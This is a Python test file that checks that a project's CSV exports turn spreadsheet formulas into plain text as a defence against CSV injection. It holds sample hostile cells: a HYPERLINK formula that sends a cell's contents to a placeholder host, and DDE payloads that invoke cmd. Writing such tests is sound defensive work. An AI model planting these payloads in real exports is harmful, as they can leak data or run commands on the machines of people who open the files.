"""No cell of the CSV downloads is a formula a spreadsheet would run (OWASP's advice on CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from datafactory import minimal_dimensions, minimal_glossary, minimal_site, minimal_sources, minimal_term, write_data

from bpokpo import load_content
from bpokpo.exports import FORMULA_STARTS, comparison_csv, csv_cell, csv_delimiter, glossary_csv, sources_csv

# What a hostile pull request would put in a text: each starts a formula in a spreadsheet.
FORMULAS = {
    "=": '=HYPERLINK("https://x.example/?"&A1)',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_starts_a_formula_is_made_text(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Rules", "", "Cost = value", "'quoted", "1-2 weeks", "a@b"])
def test_other_cells_are_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def read_rows(text: str, language: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=csv_delimiter(language)))


def test_formulas_in_every_kind_of_cell_reach_the_csv_as_text(tmp_path: Path) -> None:
    """Labels, values, term abbreviations, the column heading, a glossary definition and a source's title."""
    site, dimensions = minimal_site(), minimal_dimensions()
    site["ui"]["dimension"] = {"sv": FORMULAS["="], "en": FORMULAS["@"]}
    dimensions["dimensions"][1]["label"] = {"sv": FORMULAS["+"], "en": FORMULAS["-"]}
    dimensions["dimensions"][1]["values"] = {
        "aaa": {"sv": FORMULAS["="], "en": FORMULAS["+"]},
        "bbb": {"sv": FORMULAS["-"], "en": FORMULAS["@"]},
    }
    terms = [minimal_term("aaa", 1), minimal_term("bbb", 2)]
    terms[0]["abbreviation"], terms[1]["abbreviation"] = "=1+1", "-1+1"
    terms[0]["full_name"] = {"sv": FORMULAS["@"], "en": FORMULAS["="]}  # a value taken from the term file
    sources, glossary = minimal_sources(), minimal_glossary()
    sources["sources"][0]["title"] = FORMULAS["+"]
    glossary["entries"][1]["definition"] = {"sv": FORMULAS["-"], "en": FORMULAS["="]}
    data = write_data(tmp_path, site, dimensions, terms, sources=sources, glossary=glossary)
    content = load_content(str(data))
    for language in content.languages:
        for other in (glossary_csv(content, language), sources_csv(content, language)):
            cells = [cell for row in read_rows(other, language) for cell in row]
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
            assert [cell for cell in cells if cell.startswith("'") and cell[1:] in FORMULAS.values()]
        rows = read_rows(comparison_csv(content, language), language)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        neutralised = [cell for cell in cells if cell.startswith("'")]
        # heading, two abbreviations, a label, two values and a full name: seven in each language
        assert len(neutralised) == 7, neutralised
        assert {cell[1:] for cell in neutralised} <= {*FORMULAS.values(), "=1+1", "-1+1"}
